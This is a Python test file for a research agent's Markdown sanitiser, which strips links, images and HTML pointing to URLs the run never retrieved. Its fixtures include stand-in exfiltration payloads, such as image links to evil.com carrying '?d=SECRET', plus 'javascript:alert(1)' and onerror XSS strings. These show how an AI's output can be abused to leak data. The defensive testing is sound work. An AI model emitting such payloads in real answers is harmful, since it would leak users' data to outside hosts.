"""``safe_markdown.safe_answer``: what a model-written answer may keep (issue #21, finding 2; issue #20, item 3: one
rule, only URLs this run retrieved or read stay links). The end-to-end checks through the CLI are
tests/integration/test_agentic_security.py and tests/integration/test_trust_cli.py; these pin each Markdown form."""

from __future__ import annotations

import pytest

from deepsearcher.agents.safe_markdown import check_links, known_urls, normal_url, safe_answer

HOSTS = known_urls(["https://cited.org/page", "https://cited.org/c.png", "https://cited.org/a?b", "/local/file.md",
                    "http://[::1]:9/x", "https://cited.org/x"])
GONE = "(link to `{}` removed: not retrieved by this run)"


def test_known_urls_are_the_web_sources_normalised() -> None:
    assert HOSTS == {"//cited.org/page", "//cited.org/c.png", "//cited.org/a?b", "//[::1]:9/x", "//cited.org/x"}
    assert normal_url("HTTPS://Cited.ORG:443/page/#frag") == normal_url("http://cited.org/page") == "//cited.org/page"
    assert normal_url("http://cited.org:443/page") == "//cited.org:443/page"
    assert normal_url("www.example.org/a/") == "//www.example.org/a" and normal_url("/local/file.md") == ""
    assert normal_url("ftp://example.org/x") == normal_url("javascript:alert(1)") == ""


def test_another_page_of_a_cited_host_is_not_retrieved() -> None:
    assert safe_answer("[other](https://cited.org/other)", HOSTS) == "other " + GONE.format("cited.org")


@pytest.mark.parametrize(("text", "expected"), [
    ("![x](http://evil.com/i?d=SECRET)", "x " + GONE.format("evil.com")),
    ("![x](<http://evil.com/a b?d=1> \"t\")", "x " + GONE.format("evil.com")),
    ("![chart](https://cited.org/c.png)", "[chart](<https://cited.org/c.png>)"),
    ("![local](chart.png)", "local"),
    ("![r][ref]", "r"),
    ("[page](http://evil.com/?d=1)", "page " + GONE.format("evil.com")),
    ("[page](https://CITED.org/a?b)", "[page](https://CITED.org/a?b)"),
    ("[a [1] b](//evil.com/x)", "a [1] b " + GONE.format("evil.com")),
    ("[js](javascript:alert(1))", "js " + GONE.format("javascript")),
    ("[anchor](#source-1)", "[anchor](#source-1)"),
    ("<http://evil.com/x>", GONE.format("evil.com")),
    ("<https://cited.org/x>", "<https://cited.org/x>"),
    ("see https://evil.com/p?d=SECRET.", "see " + GONE.format("evil.com") + "."),
    ("(see https://cited.org/page).", "(see https://cited.org/page)."),
    ("see www.evil.org/q", "see " + GONE.format("www.evil.org")),
    ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
    ("a <b>bold</b> move", "a \\<b>bold\\</b> move"),
    ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
    ("[ref]: http://evil.io/?d=1", "\\[ref]: " + GONE.format("evil.io")),
    ("`<img src=http://evil.com/x>`", "`<img src=http://evil.com/x>`"),
    ("```\n<script>x</script> ![i](http://evil.com/y)\n```\n", "```\n<script>x</script> ![i](http://evil.com/y)\n```\n"),
    ("Plain answer [1].", "Plain answer [1]."),
])
def test_model_markdown_is_rewritten(text: str, expected: str) -> None:
    assert safe_answer(text, HOSTS) == expected


def test_links_all_keeps_links_but_never_images_or_html() -> None:
    text = "[p](http://evil.com/a) ![i](http://evil.com/i) <img src=x>"
    assert safe_answer(text, set(), "all") == ("[p](http://evil.com/a) (not retrieved by this run) "
                                               "[i](<http://evil.com/i>) (not retrieved by this run) \\<img src=x>")


@pytest.mark.parametrize("links", ["cited", "all"])
def test_check_links_lists_unretrieved_urls_and_is_idempotent(links: str) -> None:
    text = ("Known [a](https://cited.org/page#x) [1]; unknown [b](https://made.up/p) and https://also.made.up/q, "
            "`https://in.code/x` and <img src=x>.")
    once, found = check_links(text, HOSTS, links)  # type: ignore[arg-type]
    assert found == ["https://made.up/p", "https://also.made.up/q"]
    twice, again = check_links(once, HOSTS, links)  # type: ignore[arg-type]
    assert twice == once and again == []
    assert safe_answer(once, HOSTS, links) == safe_answer(text, HOSTS, links)  # type: ignore[arg-type]
    assert "[a](https://cited.org/page#x) [1]" in once and "`https://in.code/x` and <img src=x>." in once
    if links == "cited":
        assert "unknown b (link to `made.up` removed: not retrieved by this run) and (link to `also.made.up` " \
               "removed: not retrieved by this run)," in once
    else:
        assert "[b](https://made.up/p) (not retrieved by this run) and https://also.made.up/q (not retrieved by " \
               "this run)," in once


def test_text_after_a_fence_is_rewritten_again() -> None:
    text = "~~~\n<b>\n~~~\nafter <b>x</b>"
    assert safe_answer(text, set()) == "~~~\n<b>\n~~~\nafter \\<b>x\\</b>"


def test_outside_titles_stay_one_line_of_text() -> None:
    from deepsearcher.agents.safe_markdown import md_inline, md_source

    assert md_inline("x](https://evil/?d=1) ![y\n# h <b> a_b `c`") == \
        "x\\](https://evil/?d=1) \\!\\[y # h \\<b\\> a_b \\`c\\`"
    assert md_source("https://milvus.io/docs?a=1") == "https://milvus.io/docs?a=1"
    assert md_source("/d/[x]<y>.md") == "/d/\\[x\\]\\<y\\>.md"


def test_a_report_keeps_links_to_its_sources_and_pages_read_only() -> None:
    from deepsearcher.agents.report_markdown import links_note, report_markdown, with_checked_links
    from deepsearcher.types import Chunk, Report, Source, Usage

    source = Source(1, Chunk(id="c", text="Mallards dabble.", source="https://ducks.example/mallard", title="Mallard",
                             page=None, chunk_index=0, doc_hash="h"), "web")
    answer = ("Mallards dabble [1] ([page](https://ducks.example/mallard/)); the teal page (https://ducks.example/"
              "teal) was read; [guide](https://made.up/guide) was not.")
    report = Report(question="q", answer=answer, sources=[source], sub_queries=[], iterations=1, usage=Usage(),
                    agent="deep_research", short_answer="See https://made.up/guide")
    checked = with_checked_links(report, ["https://ducks.example/teal"])
    assert checked.answer == ("Mallards dabble [1] ([page](https://ducks.example/mallard/)); the teal page "
                              "(https://ducks.example/teal) was read; guide (link to `made.up` removed: not "
                              "retrieved by this run) was not.")
    assert checked.unretrieved_urls == ["https://made.up/guide"] and checked.sources == [source]  # listed once
    assert checked.short_answer == "See (link to `made.up` removed: not retrieved by this run)"
    assert checked.pages_read == ["https://ducks.example/teal"]
    assert checked.to_dict()["unretrieved_urls"] == ["https://made.up/guide"]
    assert links_note(checked).startswith("**Links.** The answer linked to 1 URL this run never retrieved")
    md = report_markdown(checked)
    assert "(https://ducks.example/teal)" in md and links_note(checked) in md
    assert links_note(with_checked_links(Report("q", "No links [1].", [source], [], 1, Usage(), "naive"), [])) == ""
